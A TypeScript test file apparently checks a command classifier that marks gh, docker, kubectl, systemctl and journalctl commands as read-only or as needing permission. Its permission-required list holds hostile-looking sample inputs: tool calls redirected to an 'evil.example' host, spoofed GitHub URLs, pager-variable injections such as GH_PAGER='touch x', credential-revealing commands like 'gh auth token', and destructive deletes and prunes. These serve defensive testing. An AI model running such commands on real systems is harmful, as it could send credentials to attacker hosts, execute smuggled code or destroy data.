import { expect, test } from 'vitest'
import { placeWith } from '../../testing/place.ts'
import { effectOf } from './reading.ts'

/** One command a line. */
const linesOf = (text: string) => text.split('\n').filter((line) => line !== '')

const READS = linesOf(`
gh pr view 12
gh pr view
gh pr view 12 --json title,body,reviews --jq '.title'
gh pr view https://github.com/cli/cli/pull/12 --comments
gh pr view feature/new-login -R cli/cli
gh pr list --state open --limit 20
gh pr list -s merged -L5 --author "@me" | head
gh pr diff 12 --name-only
gh pr diff 12 | grep -n '^+' | head -50
gh pr checks 12
gh pr status
gh issue view 7 -c
gh issue list --label bug --json number,title -q '.[].title'
gh issue list -R=cli/cli
gh run list --branch main -L 5 -w ci.yml
gh run view 123456 --log-failed | tail -50
gh run view --job 5 --log
gh release list
gh release view v1.2.0
gh repo view cli/cli
gh workflow view ci.yml --yaml
gh auth status
cd /home/me/project && gh pr view 3
docker ps
docker ps -a --format '{{.Names}} {{.Status}}'
docker ps -aq --filter name=web
docker container ls
docker images -q
docker image ls --digests
docker logs web
docker logs --tail 100 --since 10m web 2>&1 | grep -i error
docker logs -n50 -t web
docker inspect web
docker inspect -f '{{.State.Health.Status}}' web
docker network inspect bridge
docker volume ls
docker history app:latest
docker port web
docker top web
docker system df
kubectl get pods
kubectl get pods -A -o wide
kubectl -n prod get deploy web -o yaml | head -40
kubectl get pod web-1 -o jsonpath='{.status.phase}'
kubectl get svc,deploy -n prod -l app=web --show-labels
kubectl get events --sort-by=.lastTimestamp | tail -20
kubectl describe pod web-1 -n prod
kubectl logs web-1 -c app --tail=50 --previous
kubectl logs -l app=web --since 1h --all-containers
kubectl top pods
kubectl config current-context
kubectl rollout history deploy/web
systemctl status
systemctl status nginx --no-pager -l
systemctl --user status agent-chat
systemctl is-active nginx
systemctl list-units --type=service --state=failed
systemctl --failed
systemctl show nginx -p MainPID
systemctl cat nginx
journalctl -u nginx
journalctl -xeu nginx --no-pager
journalctl -u nginx -n 50 --no-pager
journalctl -u nginx --since "1 hour ago" -p err | tail -20
journalctl -b -1 -k
journalctl -n100 -o cat --grep=timeout
journalctl --list-boots
journalctl --disk-usage
`)

const ASKS = linesOf(`
gh
gh pr
gh co 12
gh my-alias
gh dash
gh pr create --title x --body y
gh pr checkout 12
gh pr merge 12
gh pr comment 12 -b x
gh pr review 12 --approve
gh pr close 12
gh pr edit 12
gh pr view 12 --web
gh pr view 12 -w
gh pr view 12 -cw
gh pr list --web
gh pr checks 12 --watch
gh pr diff 12 --web
gh pr -R evil.example/x/y view 1
gh pr view 1 -R evil.example/x/y
gh pr view 1 --repo=evil.example/x/y
gh pr view 1 --repo "$(cat f)"
gh pr view 1 -Revil.example/x/y
gh pr view https://evil.example/x/y/pull/1
gh pr view http://github.com/x/y/pull/1
gh pr view https://github.com.evil.example/x/y/pull/1
gh pr view https://github.com:8443/x/y
gh pr view https://github.com@evil.example/x
gh pr view "$(cat f)"
gh pr view $x
gh pr view *
gh repo view evil.example/x/y
gh repo view git@evil.example:x/y
gh repo clone x/y
gh repo delete x/y
gh repo sync
gh issue create
gh issue close 1
gh run watch 1
gh run rerun 1
gh run cancel 1
gh run download 1
gh run list -w
gh release download v1
gh release create v1
gh workflow run ci.yml
gh workflow view ci.yml --web
gh alias set co 'pr checkout'
gh alias list
gh extension install x/y
gh extension exec x
gh config set pager x
gh auth login
gh auth token
gh auth status --show-token
gh auth status -t
gh secret set x
gh browse
gh codespace ssh
gh gist create x
gh api repos/x/y
gh api repos/x/y --jq .id
gh api -X DELETE repos/x/y
gh api -XDELETE repos/x/y
gh api --method POST repos/x/y
gh api repos/x/y -X PATCH
gh api repos/x/y -f a=b
gh api repos/x/y -F a=b
gh api repos/x/y --field a=b
gh api repos/x/y --input f
gh api repos/x/y --hostname evil.example
gh api repos/x/y -H 'X: y'
gh api https://evil.example/x
gh api "$x"
gh api repos/x/y --jq 'repeat(.)'
gh pr list --json title -q 'def f: f; f'
GH_PAGER='touch x' gh pr view 1
PAGER='touch x' gh pr view 1
GH_HOST=evil.example gh pr view 1
GH_CONFIG_DIR=. gh pr view 1
GH_TOKEN=x gh pr view 1
GLAMOUR_STYLE=x gh pr view 1
GH_PAGER=x; gh pr view 1
PATH=.:$PATH gh pr view 1
./gh pr view 1
bin/gh pr view 1
/tmp/gh pr view 1
docker run x
docker exec web ls
docker rm web
docker stop web
docker cp web:/x .
docker build .
docker pull x
docker compose up -d
docker compose ps
docker compose -p x logs
docker compose config
docker logs -f web
docker logs --follow web
docker logs -ft web
docker stats
docker events
docker attach web
docker top web -eo pid
docker -H tcp://evil.example ps
docker --host=tcp://evil.example ps
docker --context evil ps
docker -c evil ps
docker --config . ps
docker --tlscacert x ps
docker context use x
docker ps --config .
docker my-plugin
docker buildx ls
docker image prune
docker image rm x
docker volume prune -f
docker network rm x
docker system prune
docker save -o x y
docker inspect web -o x
docker login
docker search x
docker scout cves
DOCKER_HOST=tcp://evil.example docker ps
DOCKER_CONFIG=. docker ps
DOCKER_CONTEXT=x docker ps
docker ps "$x"
docker ps -q | xargs docker rm
kubectl
kubectl apply -f x
kubectl delete pod web
kubectl exec web -- ls
kubectl edit deploy web
kubectl scale deploy web --replicas 0
kubectl rollout restart deploy web
kubectl rollout status deploy web
kubectl port-forward web 80
kubectl proxy
kubectl cp web:/x .
kubectl debug web
kubectl attach web
kubectl foo
kubectl plugin list
kubectl kustomize .
kubectl diff -f x
kubectl get -f x.yaml
kubectl get -k .
kubectl get pods -w
kubectl get pods --watch
kubectl get pods -Aw
kubectl get pods --kubeconfig x
kubectl get pods --kubeconfig=x
kubectl --kubeconfig x get pods
kubectl --context evil get pods
kubectl get pods --context evil
kubectl get pods --cluster x
kubectl get pods --server https://evil.example
kubectl get pods -s https://evil.example
kubectl get pods --user x
kubectl get pods --token x
kubectl get pods --as root
kubectl get pods --cache-dir x
kubectl get pods --profile cpu
kubectl get pods --profile-output x
kubectl get pods --raw /x
kubectl get pods -o go-template-file=x
kubectl get pods -ogo-template-file=x
kubectl get pods -Ao jsonpath-file=x
kubectl get pods --output=custom-columns-file=x
kubectl get pods -o "$x"
kubectl logs -f web
kubectl logs --follow web
kubectl logs -fp web
kubectl config use-context x
kubectl config set x y
kubectl config view --raw
kubectl auth reconcile -f x
kubectl label pod x a=b
kubectl -n
KUBECONFIG=x kubectl get pods
KUBE_EDITOR=x kubectl get pods
KUBECTL_EXTERNAL_DIFF=x kubectl get pods
kubectl get "$x"
systemctl restart nginx
systemctl stop nginx
systemctl start nginx
systemctl enable nginx
systemctl daemon-reload
systemctl edit nginx
systemctl set-property nginx x=y
systemctl kill nginx
systemctl -H evil.example status
systemctl --host=evil.example status
systemctl -M x status
systemctl --root=x status
systemctl --image=x status
systemctl status -H evil.example
systemctl status "$x"
systemctl is-system-running --wait
systemctl poweroff
systemctl isolate x
systemctl import-environment
systemctl set-environment x=y
SYSTEMD_PAGER='touch x' systemctl status
SYSTEMD_EDITOR=x systemctl status
journalctl -f
journalctl -fu nginx
journalctl -u nginx -f
journalctl -xef
journalctl --follow
journalctl -n -f
journalctl -n5f
journalctl --vacuum-time=1d
journalctl --vacuum-size=1M
journalctl --rotate
journalctl --flush
journalctl --sync
journalctl --setup-keys
journalctl --update-catalog
journalctl --cursor-file=x
journalctl --cursor-file x
journalctl -D x
journalctl --directory=x
journalctl --file=x
journalctl --root=x
journalctl --image=x
journalctl -M x
journalctl --machine=x
journalctl --vac
journalctl --since
journalctl "$x"
SYSTEMD_PAGER=x journalctl
pip list
cargo tree
go list ./...
`)

test.each(READS)('reads: %s', (command) =>
  expect(effectOf(command, placeWith())).toMatchObject({ effect: 'reading' }),
)

test.each(ASKS)('asks: %s', (command) =>
  expect(effectOf(command, placeWith())).toMatchObject({ effect: 'changing' }),
)

test('gh asks git where it is, so another repository asks', () => {
  const other = placeWith({ isOwn: () => false })
  expect(effectOf('gh pr view 1', other).effect).toBe('changing')
  expect(effectOf('docker ps', other).effect).toBe('reading')
})

test.each([
  'GH_PAGER',
  'GH_HOST',
  'PAGER',
  'DOCKER_HOST',
  'KUBECONFIG',
  'SYSTEMD_PAGER',
  'GIT_DIR',
])('a value for %s asks, before the command or in one of its own', (name) => {
  for (const program of ['gh pr view 1', 'docker ps', 'kubectl get pods', 'systemctl status'])
    for (const text of [
      `${name}=x ${program}`,
      `${name}=x; ${program}`,
      `export ${name}=x; ${program}`,
    ])
      expect([text, effectOf(text, placeWith()).effect]).toEqual([text, 'changing'])
})

test('an option that no form has asks, wherever it is put', () => {
  const plain = READS.filter((command) => /^[\w ./:=,-]+$/.test(command))
  expect(plain.length).toBeGreaterThan(40)
  for (const command of plain)
    for (const option of ['--web', '--config=x', '--follow', '--watch', '--frobnicate'])
      for (const text of [`${command} ${option}`, command.replace(' ', ` ${option} `)])
        expect([text, effectOf(text, placeWith()).effect]).toEqual([text, 'changing'])
})
